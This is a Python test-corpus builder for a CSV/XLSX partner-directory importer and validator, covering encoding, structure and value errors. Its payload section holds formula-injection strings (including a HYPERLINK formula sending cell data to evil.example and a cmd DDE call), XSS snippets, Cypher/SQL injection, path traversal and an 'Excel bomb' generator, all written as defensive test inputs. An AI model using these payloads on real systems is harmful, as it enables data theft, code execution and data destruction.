"""The bad-input corpus: how each file is built and what ``import`` and ``validate`` must say about it.

Every :class:`Case` names the (row, field) pairs the importer (``python -m graph import FILE``) and
the validator (``validate`` on a data copy whose partners.csv is this file) must report —
``ACCEPT`` means the file is valid for that command. Rows count like a spreadsheet: 1 = header,
2 = first record; field ``""`` is a file-level problem (encoding, empty file, broken line).
``stored`` lists values an accepted import must store *verbatim* (payloads stay text).

``python -m tests.corpus.cases`` rewrites the committed files (deterministic). The two large cases
(100,000 rows, a 1 MB cell) are built at test time by :func:`large_rows` / :func:`megabyte_cell`.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from graph.core.model import PARTNER_COLUMNS

HERE = Path(__file__).resolve().parent
ACCEPT: tuple = ()
Expect = tuple[tuple[int, str], ...]


@dataclass(frozen=True)
class Case:
    """One corpus file and the outcome both commands must have."""

    name: str
    what: str
    data: bytes
    imported: Expect
    validated: Expect
    stored: dict[str, dict[str, str]] = field(default_factory=dict)


def rec(n: int, **kw: str) -> dict[str, str]:
    """A valid contract row in Konz with id ``p-9000NN`` (override any field)."""
    r = {c: "" for c in PARTNER_COLUMNS}
    r.update(id=f"p-9{n:05d}", name=f"Korpus-Testpartner {n}", traeger="Testträger e. V.", kategorie="beratung",
             angebote="erziehungsberatung", strasse=f"Marktstraße {n}", plz="54329", ort="Konz", ags="07235068",
             lat="49.6996", lon="6.5791", sprachen="de", barrierefrei="ja", ebene="lokal", telefon=f"030 23125 8{n:02d}",
             email="info@korpus.example", website="https://korpus.example", oeffnungszeiten="Mo–Fr 9–12 Uhr",
             geprueft_am="2026-01-15", aktiv="ja", version="1")
    r.update(kw)
    return r


def table(rows: list[dict], columns: list[str] | None = None, sep: str = ",", eol: str = "\n") -> str:
    """CSV text (minimal quoting) of ``rows`` with ``columns`` (default: the contract)."""
    columns = columns or PARTNER_COLUMNS
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=sep, lineterminator=eol)
    w.writerow(columns)
    w.writerows([[r.get(c, "") for c in columns] for r in rows])
    return buf.getvalue()


def contract(*rows: dict, sep: str = ",", encoding: str = "utf-8", eol: str = "\n") -> bytes:
    """Contract-form file (all partners.csv columns) in any dialect."""
    return table(list(rows), sep=sep, eol=eol).encode(encoding)


GERMAN = {"id": "Kennung", "name": "Name", "traeger": "Träger", "kategorie": "Kategorie", "angebote": "Angebote",
          "strasse": "Straße", "plz": "PLZ", "ort": "Ort", "lat": "Breitengrad", "lon": "Längengrad",
          "telefon": "Telefon", "email": "E-Mail", "notizen": "Bemerkungen", "geprueft_am": "Geprüft am"}


def german(*rows: dict, sep: str = ";", encoding: str = "cp1252") -> bytes:
    """An Excel-style file as offices have them: German headers, labels, decimal commas, German dates."""
    out = []
    for r in rows:
        out.append({**r, "lat": r["lat"].replace(".", ","), "lon": r["lon"].replace(".", ","),
                    "kategorie": "Weitere Beratung", "angebote": "Erziehungsberatung",
                    "geprueft_am": "15.01.2026"})
    text = table([{GERMAN[k]: v for k, v in r.items() if k in GERMAN} for r in out], list(GERMAN.values()), sep, "\r\n")
    return text.encode(encoding)


def xlsx(rows: list[dict]) -> bytes:
    """An .xlsx file as our own export writes it (formula cells neutralised with ``'``)."""
    import pandas as pd

    from graph.io.tabular import to_xlsx_bytes

    return _frozen_zip(to_xlsx_bytes({"Partner": pd.DataFrame(rows, columns=PARTNER_COLUMNS)}))


def _frozen_zip(data: bytes) -> bytes:
    """The same ZIP with fixed member times and document dates (reproducible bytes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2026-01-15T00:00:00Z", src.read(info))
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=(2026, 1, 15, 0, 0, 0)), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def ascii_rec(n: int, **kw: str) -> dict[str, str]:
    """Like :func:`rec` but plain ASCII, so one chosen cell decides the encoding."""
    return rec(n, **{"traeger": "Testtraeger", "strasse": f"Marktstrasse {n}", "oeffnungszeiten": "Mo-Fr 9-12 Uhr", **kw})


def _one_field(n: int, **kw: str) -> list[dict]:
    return [rec(1), rec(n, **kw)]


FORMULAS = {"name": '=HYPERLINK("http://evil.example/?x="&A1;"Hier klicken")', "traeger": "+1+1",
            "notizen": "-2+3 und @SUMME(A1:A9)", "oeffnungszeiten": "@SUM(1,2)",
            "ansprechperson": "=cmd|' /C calc'!A0", "strasse": "=1+1 Marktstraße"}
HTML = {"name": "<script>alert('name')</script>", "traeger": "<img src=x onerror=alert('traeger')>",
        "strasse": '"><svg onload=alert(1)>', "ort": "<b>Konz</b>", "ansprechperson": "[Klick](javascript:alert(1))",
        "oeffnungszeiten": "{{7*7}} ${7*7} <%= 7*7 %>", "notizen": "</textarea><iframe src=javascript:alert(1)>"}
CYPHER = {"name": "x'}) MATCH (n) DETACH DELETE n //", "traeger": '") RETURN 1 UNION MATCH (n) SET n.name = "x" //',
          "notizen": "' OR '1'='1 ; CALL db.labels() ; `backtick` $param", "ansprechperson": "MERGE (a)-[:X]->(b)",
          "oeffnungszeiten": "'; DROP TABLE partner; -- ../../etc/passwd \\\\server\\share %00"}
UNICODE = {"name": "Café Ünal 🎈 مركز الأسرة", "traeger": "Zoë Ñandú e\u0301 ﬁ", "notizen": "Ελληνικά · 中文 · עברית"}
MIXED = [rec(1, name="Familienzentrum Müller"), rec(2, traeger="Jugendhilfeträger Süd")]


def cases() -> list[Case]:
    """Every committed corpus file."""
    ok3 = [rec(1), rec(2), rec(3)]
    germ = [rec(1, name="Spielgruppe Kühnchen", notizen="„Krabbelgruppe“ – Anmeldung nötig"), rec(2)]
    utf8_rows, cp_rows = table(MIXED[:1]).encode("utf-8"), table(MIXED[1:]).split("\n", 1)[1].encode("cp1252")
    cr_rows = [rec(1, notizen='Zeile eins\nZeile zwei, mit Komma und "Zitat"'),
               rec(2, oeffnungszeiten="Mo 9–12\r\nDi 14–18")]
    short = table([rec(1), rec(2, notizen="Anfahrt über\n"), rec(3)])
    xls = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 4
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        z.writestr(zipfile.ZipInfo("kein-excel.txt", date_time=(2026, 1, 15, 0, 0, 0)), "Hallo")
    return [
        # ------------------------------------------------------------ encodings and dialects
        Case("utf8_komma.csv", "Vertragsform, UTF-8, Komma: gültig", contract(*ok3), ACCEPT, ACCEPT),
        Case("utf8_bom.csv", "UTF-8 mit BOM", b"\xef\xbb\xbf" + contract(*ok3), ACCEPT, ACCEPT),
        Case("utf8_crlf.csv", "Windows-Zeilenenden", contract(*ok3, eol="\r\n"), ACCEPT, ACCEPT),
        Case("utf8_nur_cr.csv", "alte Mac-Zeilenenden (nur CR)", contract(*ok3, eol="\r"), ACCEPT, ACCEPT),
        Case("cp1252_semikolon_deutsch.csv", "Excel-CSV: Windows-1252, Semikolon, deutsche Spalten und Werte",
             german(*germ), ACCEPT, ((1, ""),), {"p-900001": {"name": "Spielgruppe Kühnchen"}}),
        Case("latin1_komma.csv", "ISO-8859-1 (Umlaut erst in Zeile 3, Feld Träger)",
             contract(ascii_rec(1), ascii_rec(2, traeger="Jugendhilfeträger"), encoding="latin-1"),
             ACCEPT, ((3, "traeger"),), {"p-900002": {"traeger": "Jugendhilfeträger"}}),
        Case("utf16le_bom_tab.txt", "Excel „Unicode-Text“: UTF-16 LE mit BOM, Tabulator",
             b"\xff\xfe" + german(*germ, sep="\t", encoding="utf-16-le"), ACCEPT, ((1, ""),)),
        Case("utf16be_bom_semikolon.csv", "UTF-16 BE mit BOM", b"\xfe\xff" + german(*germ, encoding="utf-16-be"),
             ACCEPT, ((1, ""),)),
        Case("utf16le_ohne_bom.csv", "UTF-16 LE ohne BOM", contract(*ok3, encoding="utf-16-le"), ACCEPT, ((1, ""),)),
        Case("utf16_abgeschnitten.csv", "UTF-16 mit ungerader Bytezahl (abgeschnitten)",
             contract(*ok3, encoding="utf-16")[:-1], ((1, ""),), ((1, ""),)),
        Case("gemischt_utf8_cp1252.csv", "Zeile 2 UTF-8, Zeile 3 Windows-1252 (zusammenkopiert)",
             utf8_rows + cp_rows, ACCEPT, ((3, "traeger"),),
             {"p-900001": {"name": "Familienzentrum Müller"}, "p-900002": {"traeger": "Jugendhilfeträger Süd"}}),
        Case("tabulator.tsv", "Vertragsform mit Tabulator", contract(*ok3, sep="\t"), ACCEPT, ((1, ""),)),
        Case("semikolon_vertrag.csv", "Vertragsform mit Semikolon", contract(*ok3, sep=";"), ACCEPT, ((1, ""),)),
        Case("senkrechter_strich.csv", "Vertragsform mit |", contract(*ok3, sep="|"), ACCEPT, ((1, ""),)),
        Case("zeilenumbruch_in_anfuehrungszeichen.csv", "Zeilenumbrüche, Kommas und Anführungszeichen in Zellen",
             contract(*cr_rows), ACCEPT, ACCEPT,
             {"p-900001": {"notizen": cr_rows[0]["notizen"]}, "p-900002": {"oeffnungszeiten": "Mo 9–12\nDi 14–18"}}),
        Case("wagenruecklauf_in_zelle.csv", "einzelnes CR (alter Mac-Zeilenumbruch) in einer Zelle in Anführungszeichen",
             contract(rec(1, notizen="Zeile eins\rZeile zwei"), rec(2), eol="\r\n"), ACCEPT, ACCEPT,
             {"p-900001": {"notizen": "Zeile eins\nZeile zwei"}}),
        Case("leerzeilen.csv", "Leerzeilen zwischen den Datensätzen", contract(*ok3).replace(b"\n", b"\n\n"),
             ACCEPT, ACCEPT),
        Case("excel_export.xlsx", "eigener Excel-Export (Formelzellen mit ' entschärft)",
             xlsx([rec(1, traeger="=1+1"), rec(2)]), ACCEPT, ((1, ""),), {"p-900001": {"traeger": "=1+1"}}),
        Case("kaputt.xlsx", "ZIP-Datei, aber keine Excel-Arbeitsmappe", zbuf.getvalue(), ((1, ""),), ((1, ""),)),
        Case("alt.xls", "altes Excel-Format (OLE)", xls, ((1, ""),), ((1, ""),)),
        Case("bild.csv", "PNG-Bild mit Endung .csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, ((1, ""),),
             ((1, ""),)),
        # ---------------------------------------------------------------------- structure
        Case("leer.csv", "leere Datei (0 Bytes)", b"", ((1, ""),), ((1, ""),)),
        Case("nur_leerzeilen.csv", "nur Leerzeilen und Leerzeichen", b"\n  \r\n\t\n", ((1, ""),), ((1, ""),)),
        Case("nur_bom.csv", "nur ein BOM", b"\xef\xbb\xbf", ((1, ""),), ((1, ""),)),
        Case("nur_kopfzeile.csv", "Kopfzeile ohne Datensätze", contract(), ACCEPT, ACCEPT),
        Case("spalte_name_fehlt.csv", "weder Name noch Kennung", "Träger;Ort\nVerein;Konz\n".encode(),
             ((1, "name"),), ((1, ""),)),
        Case("pflichtspalte_fehlt.csv", "Spalte kategorie fehlt",
             table(ok3[:2], [c for c in PARTNER_COLUMNS if c != "kategorie"]).encode(),
             ((2, "kategorie"), (3, "kategorie")), ((1, "kategorie"),)),
        Case("zusaetzliche_spalten.csv", "unbekannte Zusatzspalten",
             table(ok3, PARTNER_COLUMNS + ["Bemerkung intern", "x"]).encode(), ACCEPT, ACCEPT),
        Case("umbenannte_spalten.csv", "übliche deutsche Spaltennamen", german(*germ, sep=",", encoding="utf-8"),
             ACCEPT, ((1, "id"),)),
        Case("doppelte_spalte.csv", "Spalte plz zweimal",
             table(ok3[:1], PARTNER_COLUMNS + ["plz"]).encode(), ((1, "plz"),), ((1, "plz"),)),
        Case("zu_viele_felder.csv", "Zeile 3 mit Komma im Namen ohne Anführungszeichen",
             contract(*ok3).replace(b"Korpus-Testpartner 2", b"Kita Sonne, Konz"), ((3, ""),), ((3, ""),)),
        Case("zu_viele_felder_erste_zeile.csv", "erste Datenzeile mit zusätzlichem Feld",
             contract(*ok3).replace(b"Korpus-Testpartner 1", b"Kita Sonne, Konz"), ((2, ""),), ((2, ""),)),
        Case("zeilenumbruch_ohne_anfuehrungszeichen.csv", "Zeilenumbruch in einer Zelle ohne Anführungszeichen",
             short.replace('"Anfahrt über\n"', "Anfahrt über\n").encode(), ((4, "kategorie"),), ((3, "aktiv"), (4, "id"))),
        Case("titelzeile_vor_kopfzeile.csv", "Titelzeile über der Kopfzeile",
             b"Partnerliste Stand 2026\n" + contract(*ok3), ((1, "name"),), ((2, ""),)),
        Case("json_statt_csv.csv", "JSON-Inhalt", b'[{"id": "p-1", "name": "x"}, {"id": "p-2"}]\n',
             ((1, "name"),), ((1, "id"),)),
        Case("html_seite.csv", "gespeicherte Webseite", b"<!doctype html><html><head><script>alert(1)</script>"
             b"</head><body><table><tr><td>Name</td></tr></table></body></html>\n", ((1, "name"),), ((1, "id"),)),
        Case("sehr_viele_spalten.csv", "2.000 Zusatzspalten",
             table(ok3[:1], PARTNER_COLUMNS + [f"x{i}" for i in range(2000)]).encode(), ACCEPT, ACCEPT),
        Case("aktualisierung_teilweise.csv", "nur Kennung und Telefon vorhandener Partner",
             b"id,telefon\np-000010,030 23125 4711\np-000011,030 23125 4712\n", ACCEPT, ((1, "name"),),
             {"p-000010": {"telefon": "030 23125 4711"}}),
        Case("version_veraltet.csv", "Export-Version passt nicht zur aktuellen",
             b"id,version,telefon\np-000010,7,030 23125 4711\n", ((2, "version"),), ((1, "name"),)),
        Case("gleicher_partner_zweimal.csv", "derselbe neue Partner zweimal (Name und Adresse)",
             german(rec(1), rec(1, id="")), ((3, "name"),), ((1, ""),)),
        Case("zahlen_aus_excel.csv", "Excel-Gewohnheiten: 54329.0, siebenstellige AGS, x als ja",
             b"Name;Kategorie;PLZ;AGS;Alter von;Aktiv;Ort\nTreff;Jugendarbeit;54329.0;7235068;6.0;x;Konz\n",
             ACCEPT, ((1, ""),)),
        # -------------------------------------------------------------------------- values
        Case("unbekannte_kategorie.csv", "Kategorie „zirkus“", contract(*_one_field(2, kategorie="zirkus")),
             ((3, "kategorie"),), ((3, "kategorie"),)),
        Case("unbekanntes_angebot.csv", "Angebot „zaubern“",
             contract(*_one_field(2, angebote="erziehungsberatung;zaubern")), ((3, "angebote"),), ((3, "angebote"),)),
        Case("ags_anderer_kreis.csv", "AGS aus Bernkastel-Wittlich",
             contract(*_one_field(2, ags="07231134", lat="49.9160", lon="7.0680")), ((3, "ags"),), ((3, "ags"),)),
        Case("ags_ungueltig.csv", "AGS mit Buchstabe; siebenstellige AGS",
             contract(rec(1, ags="0723506X"), rec(2, ags="7235068")), ((2, "ags"),), ((2, "ags"), (3, "ags"))),
        Case("koordinaten_im_meer.csv", "Punkt in der Nordsee", contract(*_one_field(2, lat="54.3000", lon="7.6000")),
             ((3, "lat"),), ((3, "lat"),)),
        Case("koordinaten_vertauscht.csv", "Breite und Länge vertauscht",
             contract(*_one_field(2, lat="6.5791", lon="49.6996")), ((3, "lat"),), ((3, "lat"),)),
        Case("koordinaten_ungueltig.csv", "Breite 149,7; Länge „abc“",
             contract(rec(1, lat="149.7"), rec(2, lon="abc")), ((2, "lat"), (3, "lon")), ((2, "lat"), (3, "lon"))),
        Case("koordinaten_dezimalkomma.csv", "Vertragsform mit Dezimalkomma",
             contract(*_one_field(2, lat="49,6996", lon="6,5791")), ACCEPT, ((3, "lat"), (3, "lon"))),
        Case("plz_ungueltig.csv", "PLZ vierstellig, mit Leerzeichen, Buchstaben",
             contract(rec(1, plz="5432"), rec(2, plz="54 329"), rec(3, plz="ABCDE")),
             ((2, "plz"), (3, "plz"), (4, "plz")), ((2, "plz"), (3, "plz"), (4, "plz"))),
        Case("email_ungueltig.csv", "E-Mail ohne Domain, ohne @, mit HTML",
             contract(rec(1, email="info@"), rec(2, email="info at korpus.example"),
                      rec(3, email='x@y.example"><script>alert(1)</script>')),
             ((2, "email"), (3, "email"), (4, "email")), ((2, "email"), (3, "email"), (4, "email"))),
        Case("telefon_ungueltig.csv", "Buchstaben, zu wenige und zu viele Ziffern",
             contract(rec(1, telefon="0651/abc"), rec(2, telefon="123"), rec(3, telefon="+49 651 12345678901234567")),
             ((2, "telefon"), (3, "telefon"), (4, "telefon")), ((2, "telefon"), (3, "telefon"), (4, "telefon"))),
        Case("webadresse_ungueltig.csv", "javascript:, ftp:, fehlender Doppelpunkt, HTML",
             contract(rec(1, website="javascript:alert(1)"), rec(2, website="ftp://korpus.example"),
                      rec(3, website="http//korpus.example"), rec(4, website='https://x.example/"><script>')),
             tuple((r, "website") for r in range(2, 6)), tuple((r, "website") for r in range(2, 6))),
        Case("doppelte_kennung.csv", "zweimal p-900001", contract(rec(1), rec(2, id="p-900001")),
             ((3, "id"),), ((3, "id"),)),
        Case("kennung_ungueltig.csv", "Kennung mit Leerzeichen und Pfad", contract(rec(1, id="p 1/../../etc")),
             ((2, "id"),), ((2, "id"),)),
        Case("alter_von_groesser_bis.csv", "Alter von 12 bis 6", contract(rec(1, alter_von="12", alter_bis="6")),
             ((2, "alter_von"),), ((2, "alter_von"),)),
        Case("alter_ungueltig.csv", "-1, „zwölf“, 150",
             contract(rec(1, alter_von="-1"), rec(2, alter_von="zwölf"), rec(3, alter_bis="150")),
             ((2, "alter_von"), (3, "alter_von"), (4, "alter_bis")), ((2, "alter_von"), (3, "alter_von"), (4, "alter_bis"))),
        Case("datum_ungueltig.csv", "31. Februar, „morgen“, Zukunft",
             contract(rec(1, geprueft_am="2026-02-31"), rec(2, geprueft_am="morgen"), rec(3, geprueft_am="2099-01-01")),
             tuple((r, "geprueft_am") for r in (2, 3, 4)), tuple((r, "geprueft_am") for r in (2, 3, 4))),
        Case("aktiv_ungueltig.csv", "aktiv = vielleicht", contract(rec(1, aktiv="vielleicht")), ((2, "aktiv"),),
             ((2, "aktiv"),)),
        Case("sprache_ungueltig.csv", "Klingonisch; xx", contract(rec(1, sprachen="Klingonisch"), rec(2, sprachen="xx;de")),
             ((2, "sprachen"), (3, "sprachen")), ((2, "sprachen"), (3, "sprachen"))),
        Case("einzugsgebiet_ungueltig.csv", "unbekannte VG und Sozialraum",
             contract(rec(1, einzugsgebiet="vg:999999999;sr:mond")), ((2, "einzugsgebiet"),), ((2, "einzugsgebiet"),)),
        Case("kapazitaet_ungueltig.csv", "„viele“, -5", contract(rec(1, kapazitaet="viele"), rec(2, kapazitaet="-5")),
             ((2, "kapazitaet"), (3, "kapazitaet")), ((2, "kapazitaet"), (3, "kapazitaet"))),
        Case("barrierefrei_ebene_ungueltig.csv", "barrierefrei = vielleicht, ebene = bund",
             contract(rec(1, barrierefrei="vielleicht"), rec(2, ebene="bund")), ((2, "barrierefrei"), (3, "ebene")),
             ((2, "barrierefrei"), (3, "ebene"))),
        Case("zu_lang.csv", "Name 201 Zeichen, Notizen 2.001 Zeichen",
             contract(rec(1, name="N" * 201), rec(2, notizen="x" * 2001)), ((2, "name"), (3, "notizen")),
             ((2, "name"), (3, "notizen"))),
        Case("laengen_grenzwerte.csv", "Name 200, Notizen 2.000, Öffnungszeiten 500 Zeichen (erlaubt)",
             contract(rec(1, name="Ä" * 200, notizen="ß" * 2000, oeffnungszeiten="ü" * 500)), ACCEPT, ACCEPT,
             {"p-900001": {"name": "Ä" * 200}}),
        Case("nul_bytes.csv", "NUL-Bytes in Name und Notizen",
             contract(rec(1, name="Kita\x00Sonne"), rec(2, notizen="a\x00b")), ((2, "name"), (3, "notizen")),
             ((2, "name"), (3, "notizen"))),
        Case("steuerzeichen.csv", "ANSI-Escape und Klingelzeichen",
             contract(rec(1, name="Kita \x1b[31mrot\x1b[0m"), rec(2, traeger="Verein\x07")),
             ((2, "name"), (3, "traeger")), ((2, "name"), (3, "traeger"))),
        # ------------------------------------------------------------ payloads: stored as text
        Case("formeln.csv", "Tabellenformeln (=HYPERLINK, +, -, @) und ein entschärftes '=",
             contract(rec(1, **FORMULAS), rec(2, traeger="'=SUMME(A1)")), ACCEPT, ACCEPT,
             {"p-900001": FORMULAS, "p-900002": {"traeger": "=SUMME(A1)"}}),
        Case("html_js.csv", "HTML/JavaScript in Textfeldern", contract(rec(1, **HTML)), ACCEPT, ACCEPT,
             {"p-900001": HTML}),
        Case("cypher.csv", "Cypher-/SQL-Fragmente und Pfade", contract(rec(1, **CYPHER)), ACCEPT, ACCEPT,
             {"p-900001": CYPHER}),
        Case("unicode.csv", "Emoji, Arabisch, Kombinationszeichen, Ligaturen", contract(rec(1, **UNICODE)),
             ACCEPT, ACCEPT, {"p-900001": UNICODE}),
    ]


def large_rows(n: int = 100_000, bad_row: int | None = None) -> bytes:
    """``n`` valid contract rows (UTF-8); with ``bad_row`` that spreadsheet row gets PLZ „5432“."""
    template = rec(0)
    lines = [",".join(PARTNER_COLUMNS)]
    for i in range(n):
        r = {**template, "id": f"g-{i:06d}", "name": f"Angebot {i}", "strasse": f"Weg {i}"}
        if bad_row == i + 2:
            r["plz"] = "5432"
        lines.append(",".join(r[c] for c in PARTNER_COLUMNS))
    return ("\n".join(lines) + "\n").encode("utf-8")


def megabyte_cell() -> bytes:
    """One valid row and one whose notizen hold 1,000,000 characters (row 3)."""
    return contract(rec(1), rec(2, notizen="A" * 1_000_000))


def excel_rows(n: int, columns: list[str] | None = None) -> bytes:
    """An .xlsx workbook (sheet „Partner“, contract columns or the given ones) with ``n`` valid records, by hand.

    Inline strings, compressed: 400,000 rows give a file of a few MB that unpacks to hundreds of MB
    of XML – the "Excel bomb" of the attack run (with few ``columns``: a few dozen MB).
    """
    columns = columns or PARTNER_COLUMNS
    import io
    import zipfile
    from xml.sax.saxutils import escape

    def row(r: int, cells: list[str]) -> str:
        return f'<row r="{r}">' + "".join(f'<c t="inlineStr"><is><t>{escape(v)}</t></is></c>' for v in cells) + "</row>"

    template = rec(0)
    body = [row(1, columns)]
    body += [row(i + 2, [{**template, "id": f"x-{i:06d}", "name": f"Angebot {i}"}[c] for c in columns])
             for i in range(n)]
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {ns} xmlns:r="{rel}"><sheets><sheet name="Partner" sheetId="1" r:id="rId1"/>'
        "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>",
        "xl/worksheets/sheet1.xml": f"<worksheet {ns}><sheetData>" + "".join(body) + "</sheetData></worksheet>",
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            z.writestr(name, text)
    return buf.getvalue()


def write(folder: Path = HERE) -> list[Path]:
    """(Re)write every committed corpus file; returns the paths."""
    paths = []
    for case in cases():
        (folder / case.name).write_bytes(case.data)
        paths.append(folder / case.name)
    return paths


if __name__ == "__main__":
    print(f"{len(write())} Dateien geschrieben nach {HERE}")
